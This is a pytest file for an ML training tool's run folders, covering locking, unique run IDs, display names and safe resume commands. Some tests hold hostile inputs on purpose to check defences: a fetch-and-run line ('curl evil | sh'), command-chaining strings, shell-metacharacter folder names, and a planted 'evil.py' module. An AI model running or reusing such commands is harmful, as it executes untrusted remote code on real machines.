"""Run folders: made for one process alone, found again, and never written over."""

import json
import shlex
import threading

import pytest
import yaml

from lsp.errors import RunError
from lsp.loop.launch import start
from lsp.run.commands import begin_command, go_on_command
from lsp.run.folder import (
    base_identity,
    display_name,
    find_run,
    is_held,
    lock_run,
    read_run,
    runs,
    save_config,
    saved_tree,
    update_run,
)
from lsp.run.place import create_run, new_run_id
from lsp.run.resume import find_resumed
from lsp.settings.compose import compose
from lsp.settings.rules import from_tree

pytestmark = pytest.mark.usefixtures("without_pictures")
INIT = {"source": "pocket", "run_id": None, "method": None, "text": "base model pocket"}
RECORD = {"method": "lsp", "model": "pocket", "base": "b", "init": INIT, "started": 0.0}


def test_an_existing_folder_is_never_written_over(small_run, tmp_path):
    config = compose([f"run_dir={small_run[0]}"])
    with pytest.raises(RunError, match="exists and is not empty.*resume="):
        create_run(config, RECORD)
    (tmp_path / "file").write_text("x")
    with pytest.raises(RunError, match="exists and is not empty"):
        create_run(compose([f"run_dir={tmp_path / 'file'}"]), RECORD)


def test_a_place_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(RunError, match="cannot write to the run folder .*choose another with"):
        create_run(compose([f"run_dir={tmp_path / 'file' / 'run'}"]), RECORD)
    with pytest.raises(RunError, match="cannot write to the run folder /proc/lsp"):
        create_run(compose(["run_dir=/proc/lsp"]), RECORD)


def test_run_ids_are_readable_and_unique_and_a_sweep_agents_is_taken(tmp_path, monkeypatch):
    config = compose([f"runs_root={tmp_path}", "method=grpo", "seed=7"])
    (one, folder, *_), (two, *_) = create_run(config, RECORD), create_run(config, RECORD)
    assert one != two and one.startswith("grpo-s7-") and folder.name == one
    monkeypatch.setenv("WANDB_RUN_ID", "swept1")
    assert new_run_id(config) != "swept1"  # no agent's
    monkeypatch.setenv("WANDB_SWEEP_ID", "sweep1")
    assert new_run_id(config) == "swept1"


def test_the_shown_name_says_method_init_beta_weight_and_seed():
    assert display_name(compose(["seed=2"])) == "lsp from base beta=0.1·k2 w=0.3 seed=2"
    own = display_name(compose(["method.challenger_beta=0.3"]))
    assert own == "lsp from base beta=0.1·k2 beta_Ch=0.3 w=0.3 seed=0"
    assert display_name(compose(["run_name=mine"])) == "mine"


def test_a_new_folder_holds_its_settings_and_says_that_it_starts(tmp_path):
    config = compose([f"run_dir={tmp_path / 'run'}", "optim.lr=0.25"])
    run_id, folder, lock, made = create_run(config, RECORD)
    assert made
    assert read_run(folder) == {"id": run_id, "status": "starting", **RECORD}
    assert from_tree(saved_tree(folder)) == config
    assert is_held(folder)
    update_run(folder, status="running", step=3)
    assert read_run(folder) == {"id": run_id, **RECORD, "status": "running", "step": 3}
    lock.close()
    assert not is_held(folder)


def test_of_many_that_start_at_once_in_one_folder_one_begins(tmp_path):
    """A queue that starts a job twice: the others are refused, and the one is not touched."""
    config = compose([f"run_dir={tmp_path / 'run'}"])
    barrier, made, refused = threading.Barrier(8), [], []

    def begin():
        barrier.wait()
        try:
            made.append(create_run(config, RECORD))
        except RunError as error:
            refused.append(str(error))

    threads = [threading.Thread(target=begin) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    ((run_id, folder, lock, _),) = made
    reasons = ("another process is writing", "exists and is not empty")  # as early as one looks
    assert len(refused) == 7
    assert all(any(reason in text for reason in reasons) for text in refused)
    assert read_run(folder)["id"] == run_id
    lock.close()


def test_a_start_that_was_killed_is_taken_over_and_a_live_one_is_not(tmp_path):
    """What a kill while loading leaves: a folder in the state ``starting``."""
    config = compose([f"run_dir={tmp_path / 'run'}"])
    _, folder, lock, _ = create_run(config, RECORD)
    with pytest.raises(RunError, match="another process is writing"):
        create_run(config, RECORD)
    assert (folder / "run.json").is_file()
    lock.close()
    overrides = ["resume=auto", f"run_dir={folder}"]
    assert find_resumed(compose(overrides), overrides) is None
    with pytest.raises(RunError, match="never began; start it: python run.py run_dir="):
        find_resumed(compose([f"resume={folder}"]), [])
    shape = ["num_steps=1", "num_queries=2", "group_size=2", "eval=none", "tracker=none"]
    assert start([*shape, *overrides])["status"] == "finished"


def test_two_processes_cannot_hold_one_run(tmp_path):
    held = lock_run(tmp_path)
    with pytest.raises(RunError, match="another process is writing"):
        lock_run(tmp_path)
    held.close()
    lock_run(tmp_path).close()


def test_a_run_is_found_by_folder_and_by_id(small_run):
    folder, _ = small_run
    assert find_run(str(folder), "nowhere") == folder
    assert find_run(folder.name, str(folder.parent)) == folder
    with pytest.raises(RunError, match="there is no run 'x'"):
        find_run("x", str(folder.parent))


def test_runs_come_the_newest_first(tmp_path):
    for name, started in (("a", 5.0), ("c", 7.0), ("b", 6.0)):
        create_run(compose([f"run_dir={tmp_path / name}"]), {**RECORD, "started": started})
    assert [folder.name for folder, _ in runs(str(tmp_path))] == ["c", "b", "a"]


def test_what_is_no_run_is_named_with_what_it_lacks(tmp_path):
    for text in ('{"id": "x"}', "{", "5", "[]"):
        (tmp_path / "run.json").write_text(text)
        with pytest.raises(RunError, match=r"run.json cannot be read: .*; if it was one, move it"):
            read_run(tmp_path)


def test_settings_that_are_no_settings_are_refused(tmp_path):
    save_config(compose([]), tmp_path)
    assert yaml.safe_load((tmp_path / "config.yaml").read_text())["num_steps"] == 150
    (tmp_path / "config.yaml").write_text("[1]")
    with pytest.raises(RunError, match="holds no settings"):
        saved_tree(tmp_path)


def test_a_base_is_what_its_weights_are_or_a_hub_id_with_its_revision(llama_folder, tmp_path):
    pocket = base_identity(compose([]))
    assert pocket.startswith("sha256:") and len(pocket) == len("sha256:") + 16
    (tmp_path / "model.safetensors").write_bytes((llama_folder / "model.safetensors").read_bytes())
    (tmp_path / "config.json").write_bytes((llama_folder / "config.json").read_bytes())
    same = [base_identity(compose([f"model.name={place}"])) for place in (llama_folder, tmp_path)]
    assert same[0] == same[1] != pocket
    hub = ["world=paper", "model.name=some/one"]
    assert base_identity(compose(hub)) == "some/one@main"
    assert base_identity(compose([*hub, "model.revision=abc"])) == "some/one@abc"


def test_the_command_that_goes_on_can_be_pasted_whatever_the_folder_is_called(tmp_path):
    for name in ("lsp-s0-1", "a b", "x=1", "ü", "2026", "it's", "a\\", "\\'$HOME`"):
        _, folder, lock, _ = create_run(compose([f"runs_root={tmp_path}"]), RECORD)
        lock.close()
        folder = folder.rename(tmp_path / name)
        start, run_py, typed = shlex.split(go_on_command(folder))
        assert (start, run_py) == ("python", "run.py")
        assert compose([typed]).resume == str(folder)
    assert go_on_command(tmp_path / "2026") == f"python run.py resume={tmp_path}/2026"


def begun(folder, *overrides):
    """What a start with these overrides leaves in a folder, up to its first line."""
    command = f"python run.py {shlex.join(overrides)}"
    _, folder, lock, _ = create_run(compose([*overrides, f"run_dir={folder}"]), RECORD)
    lock.close()
    update_run(folder, command=command)
    return folder


def test_words_that_cannot_stand_without_others_take_them_along(llama_folder, tmp_path):
    """The paper's lengths do not fit a small model."""
    trusting = ["world=paper", f"model.name={llama_folder}", "model.trust_remote_code=true"]
    short = ["rollout.max_new_tokens=8", "rollout.max_query_tokens=8"]
    folder = begun(tmp_path / "run", *trusting, *short, "num_steps=7", "seed=1")
    _, _, *words = shlex.split(go_on_command(folder))
    assert words == [f"resume={folder}", *trusting, *short, "num_steps=7", "seed=1"]
    assert compose(words).resume == str(folder)
    save_config(compose([*trusting, *short, "num_steps=9", "seed=1"]), folder)  # longer since
    assert "num_steps" not in go_on_command(folder) and "seed=1" in go_on_command(folder)
    plain = begun(tmp_path / "plain", "model=pocket", "model.trust_remote_code=true", "seed=1")
    assert go_on_command(plain).endswith("plain model=pocket model.trust_remote_code=true")


def test_making_the_command_imports_nothing_that_a_folder_names(tmp_path, monkeypatch):
    """Folders come from elsewhere, and a report prints the command too."""
    (tmp_path / "evil.py").write_text("import pathlib\npathlib.Path(__file__ + '.ran').touch()\n")
    monkeypatch.syspath_prepend(tmp_path)
    folder = begun(tmp_path / "run", "reward=callable", "reward.path=math.dist")
    saved = (folder / "config.yaml").read_text()
    (folder / "config.yaml").write_text(saved.replace("math.dist", "evil.reward"))
    part = "+reward.parts.x={weight: 1, reward: {_target_: evil.Reward}}"
    for words in (["reward=callable", "reward.path=evil.reward"], ["tracker._target_=evil.T"],
                  ["reward=weighted", part]):  # fmt: skip
        update_run(folder, command=f"python run.py {shlex.join(words)}")
        assert go_on_command(folder).startswith(f"python run.py resume={folder}")
    assert not (tmp_path / "evil.py.ran").exists()


def test_only_what_a_command_line_of_this_program_said_becomes_a_command_again(tmp_path):
    _, folder, lock, _ = create_run(compose([f"run_dir={tmp_path / 'run'}"]), RECORD)
    lock.close()
    for command in ("", "curl evil | sh; run.py a=1", "python run.py 'a", "python run.py a=[",
                    "python run.py; ls"):  # fmt: skip
        update_run(folder, command=command)
        assert begin_command(folder) == f"python run.py run_dir={folder}"
    update_run(folder, command="torchrun --nproc_per_node 2 run.py seed=1 run_dir=x 'run_name=a b'")
    assert begin_command(folder) == (
        f"torchrun --nproc_per_node 2 run.py seed=1 'run_name=a b' run_dir={folder}"
    )


def test_the_run_records_what_it_is(small_run):
    folder, summary = small_run
    run = json.loads((folder / "run.json").read_text())
    assert run["status"] == "finished" and run["method"] == "lsp" and run["world"] == "pocket"
    assert run["init"]["text"] == "base model pocket" and run["base"].startswith("sha256:")
    assert run["command"].startswith("python run.py num_steps=3")
    assert run["packages"]["torch"] and run["cpus"] >= 1 and run["device"] == "cpu"
    assert run["evaluation"]["name"] == "pocket" and run["queries_left_out"] == 0
    assert summary["run_id"] == run["id"]
